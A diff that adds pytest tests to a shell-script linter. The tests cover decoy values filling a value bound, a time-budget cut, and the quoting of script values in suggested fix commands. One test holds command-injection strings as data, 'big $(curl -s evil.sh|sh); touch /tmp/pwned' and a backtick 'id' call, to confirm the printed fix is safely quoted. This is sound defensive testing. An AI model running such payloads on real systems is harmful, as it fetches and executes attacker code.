@@ -112,3 +112,47 @@ def test_values_whose_lines_were_built_are_not_said_when_the_runs_run_out(scratc
     scratch_git.write("run.sh", "\n".join(script))
     code, report = scratch_git.lint("--strict", "run.sh")
     assert codes(report) == [] and code == 0
+
+
+def _model_switch(value="big") -> str:
+    return (f'MODEL=${{MODEL:-small}}\ncase "$MODEL" in\n  {value}) EXTRA="--enable-linear-replayssm-spec" ;;\nesac\n'
+            f"{SERVER} --disaggregation-mode prefill --port 6 $EXTRA\n")
+
+
+def test_decoy_values_past_the_value_bound_do_not_push_a_flag_switch_out(scratch_git):
+    """Hostile-input test rw25/h item 2: 256 `case` values all reaching one built line came first in the script and
+    filled MAX_ENV_VALUES; MODEL=big (the 257th) was cut with no word (exit 0 with --strict)."""
+    from pdlint.extract import MAX_ENV_VALUES
+    decoys = "|".join(f"v{i}" for i in range(MAX_ENV_VALUES))
+    script = (f'#!/bin/bash\nEXTRA=""\ndec() {{ {SERVER} --disaggregation-mode decode --port 5; }}\n'
+              f'D=${{D:-0}}\ncase "$D" in\n  {decoys}) dec ;;\n  *) dec ;;\nesac\n' + _model_switch())
+    scratch_git.write("run.sh", script)
+    code, report = scratch_git.lint("--strict", "run.sh")
+    assert codes(report) == ["SGL101"] and code == 1
+
+
+def test_a_flag_switch_the_time_budget_left_untried_is_said(scratch_git, monkeypatch):
+    """rw25/h item 4: a value that only changes flags, cut by the file's time budget, was not said (the budget's cut
+    depends on the machine), so a slow script passed --strict; it is said, in words that name no figure."""
+    import pdlint.budget
+    monkeypatch.setattr(pdlint.budget, "time_left", lambda: 0.0)
+    scratch_git.write("run.sh", '#!/bin/bash\nEXTRA=""\n' + _model_switch())
+    code, report = scratch_git.lint("run.sh")
+    [f] = [f for f in report["findings"] if f["code"] == "PD020"]
+    assert "environment sets MODEL=big" in f["message"] and "time budget" in f["message"]
+    assert f["line"] == 5 and "`--var MODEL=big` or `[tool.pdlint.vars]`" in f["fix"]  # (at `big)`)
+
+
+@pytest.mark.parametrize("value, shown", [
+    ("'big $(curl -s evil.sh|sh); touch /tmp/pwned'", "`--var 'MODEL=big $(curl -s evil.sh|sh); touch /tmp/pwned'`"),
+    ("'big `id`'", "in `[tool.pdlint.vars]`"),
+])
+def test_a_suggested_command_quotes_the_scripts_value(scratch_git, monkeypatch, value, shown):
+    """rw25/h item 11: the help printed `--var MODEL=big $(curl -s evil.sh|sh) ...` as written in the script, a
+    command that runs the attacker's code when pasted."""
+    import pdlint.budget
+    monkeypatch.setattr(pdlint.budget, "time_left", lambda: 0.0)
+    scratch_git.write("run.sh", '#!/bin/bash\nEXTRA=""\n' + _model_switch(value))
+    _, report = scratch_git.lint("run.sh")
+    [f] = [f for f in report["findings"] if f["code"] == "PD020"]
+    assert shown in f["fix"]
